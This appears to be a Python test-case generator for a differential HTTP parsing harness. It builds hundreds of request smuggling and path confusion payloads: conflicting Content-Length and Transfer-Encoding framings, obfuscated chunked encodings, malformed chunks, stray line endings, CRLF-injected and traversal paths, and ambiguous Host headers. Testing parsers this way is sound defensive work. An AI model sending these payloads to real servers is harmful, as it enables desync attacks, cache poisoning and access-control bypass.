"""Requests that two programs may understand in two ways: the classics of request smuggling and of path confusion.

Each is bytes with %ID% where the id of the request goes that the sender means, and %SMUGGLED% where a whole request
stands that somebody may take for the next one.
"""

SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: a\r\nX-Request-ID: %SID%\r\n\r\n"
PREFIX = "GET /smuggled HTTP/1.1\r\nX-Request-ID: %SID%\r\nX: "
CHUNKED = f"{len(SMUGGLED.replace('%SID%', 's-0000')):x}\r\n%SMUGGLED%\r\n0\r\n\r\n"


def post(*lines, body="", path="/v1/users", method="POST", version="HTTP/1.1", host="Host: a"):
    head = [f"{method} {path} {version}", host, "X-Request-ID: %ID%", *lines]
    return "\r\n".join(line for line in head if line is not None) + "\r\n\r\n" + body


def get(*lines, path="/attack", **more):
    return post(*lines, path=path, method="GET", **more)


def framings():
    """Two framings, or one that is written oddly."""
    te = "Transfer-Encoding: chunked"
    yield post(te, body=CHUNKED)
    yield post("Content-Length: 5", te, body="0\r\n\r\n%SMUGGLED%")
    yield post(te, "Content-Length: 5", body="0\r\n\r\n%SMUGGLED%")
    yield post("Content-Length: 4", te, body="5e\r\n" + PREFIX + "0\r\n\r\n")
    yield post("Content-Length: 0", te, body=CHUNKED)
    for odd in [
        "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked",
        "Transfer-Encoding: chunked ", "Transfer-Encoding:  chunked", "Transfer-Encoding: \x0bchunked",
        "Transfer-Encoding: chunked\x0c", "Transfer-Encoding: chunked\x00", "Transfer-Encoding: CHUNKED",
        "transfer-encoding: Chunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked;a=b",
        "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked,",
        "Transfer-Encoding: ,chunked", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, chunked",
        "Transfer-Encoding: identity", "Transfer-Encoding: gzip", "Transfer-Encoding:", "Transfer_Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "X: a\nTransfer-Encoding: chunked",
        "X: a\rTransfer-Encoding: chunked", "X: a\r\n Transfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding\r\n : chunked", " Transfer-Encoding: chunked", "\x00Transfer-Encoding: chunked",
        "Transfer-Encoding\x00: chunked", "Transfer-Encoding: chun\x00ked", "Transfer-Encoding: \xa0chunked",
        "Transfer\u2010Encoding: chunked", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "TE: trailers\r\nTransfer-Encoding: chunked", "Upgrade: h2c\r\nTransfer-Encoding: chunked",
    ]:
        yield post(odd, body=CHUNKED)
        yield post(odd, "Content-Length: 5", body="0\r\n\r\n%SMUGGLED%")
        yield post("Content-Length: 5", odd, body="0\r\n\r\n%SMUGGLED%")
    for length in [
        "5, 5", "5,5", "+5", "-5", "05", "5 ", "0x5", "5_0", "5.0", "5;", "", " ", "\x0b5", "5\x00", "5 6", "5, 6",
        "99999999999999999999", "18446744073709551621", "9223372036854775808", "4294967301", "\xb2", "1e1", "five",
    ]:
        yield post(f"Content-Length: {length}", body="01234%SMUGGLED%")
    for pair in [("5", "5"), ("5", "6"), ("0", "5"), ("5", "0"), ("", "5"), ("5", "")]:
        yield post(*(f"Content-Length: {length}" for length in pair), body="01234%SMUGGLED%")
    for odd in [
        "Content-Length : 5", "Content_Length: 5", " Content-Length: 5", "Content-Length\t: 5", "X: a\nContent-Length: 5",
        "X: a\rContent-Length: 5", "Content-Length:\r\n 5", "Content-Length:\n5", "Connection: Content-Length\r\n"
        "Content-Length: 5", "Content-Length: 5\r\nConnection: close, Content-Length", "content-LENGTH: 5",
    ]:
        yield post(odd, body="01234%SMUGGLED%")
    yield get("Content-Length: 5", body="01234%SMUGGLED%")
    yield get(te, body=CHUNKED)
    yield post(body="%SMUGGLED%", version="HTTP/1.0")
    yield post(te, body=CHUNKED, version="HTTP/1.0")
    yield post(te, "Connection: keep-alive", body=CHUNKED, version="HTTP/1.0")
    yield post("Content-Length: 5", "Connection: keep-alive", body="01234%SMUGGLED%", version="HTTP/1.0")
    for method in ["HEAD", "OPTIONS", "DELETE", "TRACE", "PUT", "PATCH"]:
        yield post("Content-Length: 5", body="01234%SMUGGLED%", method=method, path="/attack")


def chunks():
    """Chunked bodies that are not quite."""
    te = "Transfer-Encoding: chunked"
    for body in [
        "5\r\nhello\r\n0\r\n\r\n", "5;a\r\nhello\r\n0\r\n\r\n", "5;a=\"\r\n\"\r\nhello\r\n0\r\n\r\n",
        "5;a\nhello\r\n0\r\n\r\n", "5;\nhello\r\n0\r\n\r\n", "5\nhello\n0\n\n", "5\r\nhello\n0\r\n\r\n",
        "5\rhello\r0\r\r", "5\r\nhelloXX0\r\n\r\n", "5\r\nhello0\r\n\r\n", "05\r\nhello\r\n0\r\n\r\n",
        "0x5\r\nhello\r\n0\r\n\r\n", "+5\r\nhello\r\n0\r\n\r\n", "-5\r\nhello\r\n0\r\n\r\n", " 5\r\nhello\r\n0\r\n\r\n",
        "5 \r\nhello\r\n0\r\n\r\n", "5\t;a\r\nhello\r\n0\r\n\r\n", "5_\r\nhello\r\n0\r\n\r\n", "\r\n5\r\nhello\r\n0\r\n\r\n",
        "100000005\r\nhello\r\n0\r\n\r\n", "10000000000000005\r\nhello\r\n0\r\n\r\n", "ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
        "fffffffffffffffb\r\nhello\r\n0\r\n\r\n", "00000000000000000005\r\nhello\r\n0\r\n\r\n", "g\r\nhello\r\n0\r\n\r\n",
        "5\r\nhello\r\n0\r\nX: a\r\n\r\n", "5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
        "5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n", "5\r\nhello\r\n0\r\nHost: b\r\n\r\n",
        "5\r\nhello\r\n0\r\nX : a\r\n\r\n", "5\r\nhello\r\n0\r\nX\r\n\r\n", "5\r\nhello\r\n0\r\n X: a\r\n\r\n",
        "5\r\nhello\r\n0\r\n\n", "5\r\nhello\r\n0\n\r\n", "5\r\nhello\r\n0;a=b\r\n\r\n", "5\r\nhello\r\n00\r\n\r\n",
        "5\r\nhello\r\n0\r\n", "5\r\nhello\r\n", "5\r\nhel", "5", "", "0\r\n\r\n", "5\r\nhello\r\n-0\r\n\r\n",
        "3\r\nabc\r\n0\r\nX-Request-ID: %SID%\r\n\r\n", "5;" + "a" * 5000 + "\r\nhello\r\n0\r\n\r\n",
    ]:
        yield post(te, body=body)
        yield post(te, body=body + "%SMUGGLED%")


def lines():
    """Line ends, white space and other bytes in a head."""
    yield "GET /attack HTTP/1.1\nHost: a\nX-Request-ID: %ID%\n\n"
    yield "GET /attack HTTP/1.1\r\nHost: a\r\nX-Request-ID: %ID%\n\r\n%SMUGGLED%"
    yield "GET /attack HTTP/1.1\r\nHost: a\r\nX-Request-ID: %ID%\r\n\n%SMUGGLED%"
    yield "\r\n\r\n" + get()
    yield "\n\n" + get()
    yield "\r\n\r\n\r\n\r\n" + get()
    for odd in [
        "X: a\n b", "X: a\r\n b", "X: a\r\n\tContent-Length: 5", "X: a\r b", "X: a\x00b", "X: a\x7fb", "X: \xff\xfe", "X\xe9: a",
        "X y: a", ": a", "X", "X:", "X : a", "X\t: a", "\tX: a", "X(a): b", "X[]: a", "X-Under_score: a", "x_request_id: %SID%",
        "Host: b", "Host : b", "host: a", "HOST: a", "Host:a", "X-Forwarded-Host: b", "Connection: X-Request-ID",
        "Connection: close, X-Request-ID", "Connection: Host", "Keep-Alive: timeout=99", "Proxy-Connection: keep-alive",
        "Expect: 100-continue", "Expect: tea", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk",
        "Upgrade: websocket\r\nConnection: Upgrade", "X: " + "a" * 20000, "Content-Type: a\r\nContent-Type: b",
        "Authorization: a\r\nAuthorization: b", "Range: bytes=0-,0-,0-", "X-HTTP-Method-Override: DELETE",
    ]:
        yield get(odd)
        yield get(odd) + "%SMUGGLED%"
    yield post("Expect: 100-continue", "Content-Length: 5", body="01234")
    yield post("Expect: 100-continue", "Transfer-Encoding: chunked", body="5\r\nhello\r\n0\r\n\r\n")
    yield post("Expect: 100-continue", "Content-Length: 5")
    yield get(*[f"X-{number}: a" for number in range(98)])
    yield get(*[f"X-{number}: a" for number in range(300)])
    yield get() * 3
    yield get() + post("Content-Length: 5", body="01234") + get()
    yield get("Connection: close") + "%SMUGGLED%"


def targets():
    """Request lines: methods, targets, hosts and versions."""
    for path in [
        "/a/../b", "/a/./b", "/../../b", "/a/..", "/a/%2e%2e/b", "/a/%2E%2E%2fb", "/a%2fb", "/a%2Fb", "/%2e%2e/b", "/a//b",
        "//b", "///", "//b/../c", "/a/..;/b", "/a;x/../b", "/..;/", "/a\\b", "/a%5cb", "/a/..%5cb", "/a%00b", "/a%0d%0ab",
        "/a%0aX-Request-ID:%20s", "/%c0%ae%c0%ae/b", "/%ff", "/%", "/%4", "/%zz", "/a#b", "/a?b#c", "/a?b=%00", "/a?/../c",
        "/a%3fb", "/a%23b", "/a?b?c", "/%41", "/%61%74%74%61%63%6b", "/a b", "/a\tb", "/\xe9", "/%c3%a9", "/a|b", "/a\"b", "/a<b>",
        "/a{b}", "/a^b", "/a`b", "/~a", "/.", "/..", "/...", "/a/...", "/a/.%2e/b", "/a%20b", "/a+b", "/?", "/attack?", "/%2f",
        "/%252e%252e/b", "/a/%2e/b", "/a/b/%2e%2e", "/a/b/.", "/" + "a" * 4000, "/" + "a" * 9000, "/" + "../" * 300,
        "*", "a", "?a", "http://a/attack", "http://b/attack", "http://a:80/attack", "http://a", "http://a?b", "https://a/attack",
        "http://a@b/attack", "http:///attack", "ftp://a/attack", "HTTP://A/attack", "http://a/a/../b", "http://a//b",
        "a:80", "//a/attack", "/http://b/",
    ]:
        yield get(path=path)
        yield get(path=path) + "%SMUGGLED%"
    for method in ["get", "GET\t", "G ET", "GET ", "FOO", "CONNECT", "TRACE", "HEAD", "OPTIONS", "PRI", "", "GET\x00", "\xe9"]:
        yield post(method=method, path="/attack") + "%SMUGGLED%"
    for version in [
        "HTTP/1.0", "HTTP/1.2", "HTTP/1.9", "HTTP/2.0", "HTTP/0.9", "HTTP/1", "HTTP/1.", "HTTP/1.1 ", " HTTP/1.1", "http/1.1",
        "HTTP/01.1", "HTTP/1.01", "HTTP/1.10", "HTTP/1,1", "HTP/1.1", "HTTP/1.1X", "", "HTTP/1.1\t",
    ]:
        yield get(version=version) + "%SMUGGLED%"
    for host in [
        None, "Host:", "Host: ", "Host: a, b", "Host: a b", "Host: a@b", "Host: a/b", "Host: a:b", "Host: a:99999", "Host: [::1]",
        "Host: [::1", "Host: a\r\nHost: a", "Host: a\r\nHost: b", "Host: A", "Host: a.", "Host: a:80", "Host: \xe9", "Host: a?b",
        "Host: a#b", "Host: a\\b", "Host: a%00", "Host: 127.0.0.1:80:80", "Host: _a",
    ]:
        yield get(host=host)
    yield "GET /attack\r\n"
    yield "GET /attack\r\n\r\n%SMUGGLED%"
    yield "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield get(version="HTTP/1.0", host=None)
    yield get("Connection: keep-alive", version="HTTP/1.0") + "%SMUGGLED%"


def all_attacks():
    for text in [*framings(), *chunks(), *lines(), *targets()]:
        yield text


def prepared(text, number):
    """The bytes of an attack, with its ids filled in."""
    filled = text.replace("%SMUGGLED%", SMUGGLED).replace("%ID%", f"a-{number:04}").replace("%SID%", f"s-{number:04}")
    # Characters stand for bytes; the few beyond are sent as UTF-8.
    return b"".join(bytes([ord(one)]) if ord(one) < 256 else one.encode() for one in filled)
